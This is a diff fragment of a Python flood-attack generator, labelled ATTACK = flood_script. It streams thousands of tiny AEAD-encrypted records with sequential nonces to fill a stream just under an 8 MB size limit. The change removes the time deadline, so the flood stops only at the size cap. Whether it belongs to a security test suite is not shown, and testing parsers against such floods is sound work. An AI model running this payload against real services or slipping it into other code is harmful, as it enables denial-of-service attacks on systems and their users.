@@ -35,7 +35,7 @@ ATTACK = flood_script(
         aead, base, nn = ctx._key._ctx, int.from_bytes(ctx._nonce, "big"), len(ctx._nonce)
         yield tx.header
         sent, seq = len(tx.header), 0
-        while sent + 3641 * 18 <= 8 * 1024 * 1024 - 4096 and time.monotonic() < deadline:  # under the limit
+        while sent + 3641 * 18 <= 8 * 1024 * 1024 - 4096:  # just under the size limit
             yield b"".join(b"\\x11" + aead.encrypt((base ^ (seq + j)).to_bytes(nn, "big"), b"x", b"") for j in range(3641))
             seq += 3641
             sent += 3641 * 18
